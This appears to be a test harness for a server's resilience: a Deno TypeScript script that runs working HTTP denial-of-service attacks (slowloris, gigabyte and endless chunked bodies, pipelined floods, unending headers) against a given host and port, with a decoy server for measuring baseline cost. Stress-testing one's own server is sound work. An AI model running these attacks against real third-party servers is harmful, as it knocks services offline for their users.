/**
 * Attacks a door over HTTP/1.1 until it is killed: `web_attacker.ts ATTACK HOST:PORT`. A process of its
 * own, so that what it costs itself is not taken for what it costs the server. Prints a line for each
 * connection that was cut or answered, and for "slow" one when there are as many as it wants.
 */
import { type AddressInfo, connect, createServer, type Socket } from "node:net";
import { setTimeout as passed } from "node:timers/promises";

const [name = "", address = ""] = Deno.args;
const [host = "", port = ""] = address.split(":");

/** Connections that say a byte from time to time. */
const SLOW = 1000;
/** Between a connection's end and the next one: an attacker's own processor is not the server's matter. */
const PAUSE_MS = 20;
/** Connections at a time of the other attacks. */
const AT_ONCE = 4;

const head = (rest: string) =>
  `POST /tinct.v1.ColorizationService/Colorize HTTP/1.1\r\nHost: ${address}\r\n` +
  `Content-Type: application/json\r\n${rest}`;

/** @param from of an address of its own; the others' by default. */
async function dial(from = "127.0.0.1"): Promise<Socket> {
  const socket = connect({ port: Number(port), host, localAddress: from }).on("error", () => {});
  const { promise, resolve } = Promise.withResolvers<void>();
  socket.once("connect", resolve).once("close", resolve);
  await promise;
  return socket;
}

/** What a link of a gigabit a second carries, shared out among the connections, in bytes a ms. */
const BYTES_PER_MS = 125_000 / AT_ONCE;

/** Sends the same again and again, as fast as it is taken and carried, up to an answer or the end. */
async function flood(opening: string, more: Uint8Array, from?: string): Promise<void> {
  const socket = await dial(from);
  let isOver = socket.destroyed;
  let wake = () => {};
  socket.on("drain", () => wake());
  // An answer ends it, too: the server has said what it had to say.
  socket.once("data", () => socket.destroy()).once("close", () => {
    isOver = true;
    wake();
  });
  socket.write(opening);
  const startedMs = performance.now();
  for (let sentBytes = 0; !isOver; sentBytes += more.length) {
    const aheadMs = sentBytes / BYTES_PER_MS - (performance.now() - startedMs);
    if (aheadMs > 1) await passed(aheadMs);
    if (isOver) break;
    if (!socket.write(more)) await new Promise<void>((resolve) => wake = resolve);
  }
  console.log("cut");
}

/** On several connections, each after the one before. */
async function again(act: () => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: AT_ONCE }, async () => {
    for (;;) {
      await act();
      await passed(PAUSE_MS);
    }
  }));
}

/** A connection that says its request byte by byte, and dials again where it is cut. */
async function crawl(): Promise<void> {
  for (;;) {
    const socket = await dial();
    socket.resume().write(head("Content-Length: 1000\r\nX-Slow: "));
    while (!socket.destroyed) {
      await passed(1000);
      socket.write("x");
    }
    await passed(PAUSE_MS);
  }
}

const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
  slow: async () => {
    const crawling: Promise<void>[] = [];
    while (crawling.length < SLOW) {
      crawling.push(crawl());
      if (crawling.length % 50 === 0) await passed(PAUSE_MS);
    }
    console.log("slow");
    await Promise.all(crawling);
  },
  /** A gigabyte that is announced. */
  bodies: () =>
    again(() => flood(head("Content-Length: 1073741824\r\n\r\n"), Buffer.alloc(65_536))),
  /** A body whose length is never said, in chunks without an end. */
  chunks: () => {
    const chunk = Buffer.concat([
      Buffer.from("10000\r\n"),
      Buffer.alloc(65_536),
      Buffer.from("\r\n"),
    ]);
    return again(() => flood(head("Transfer-Encoding: chunked\r\n\r\n"), chunk));
  },
  /** Requests one after the other, whatever is answered; the server shuts the address out for that. */
  pipeline: () => {
    const requests = Buffer.from(`${head("Content-Length: 2\r\n\r\n")}{}`.repeat(64));
    return again(() => flood("", requests, "127.0.0.2"));
  },
  headers: () => again(() => flood(head(""), Buffer.from(`X-More: ${"m".repeat(1000)}\r\n`))),
  /** A line of a head that does not end. */
  line: () => again(() => flood(head("X-Long: "), Buffer.alloc(16_384, "m"))),
};

/** Not a server: takes all that comes, and cuts what sends more than that. */
const DECOY_BYTES = 2 ** 20;

/** Stands in the server's place: an attack on it costs the machine what the attacker itself takes. */
function standIn(): Promise<never> {
  const decoy = createServer((socket) => {
    socket.on("error", () => {}).on("data", () => {
      if (socket.bytesRead > DECOY_BYTES) socket.destroy();
    });
  });
  decoy.listen(0, "127.0.0.1", () => console.log((decoy.address() as AddressInfo).port));
  return new Promise(() => {});
}

const attack = name === "decoy" ? standIn : attacks[name];
if (!attack) throw new TypeError(`There is no attack ${name}: ${Object.keys(attacks).join(", ")}.`);
await attack();
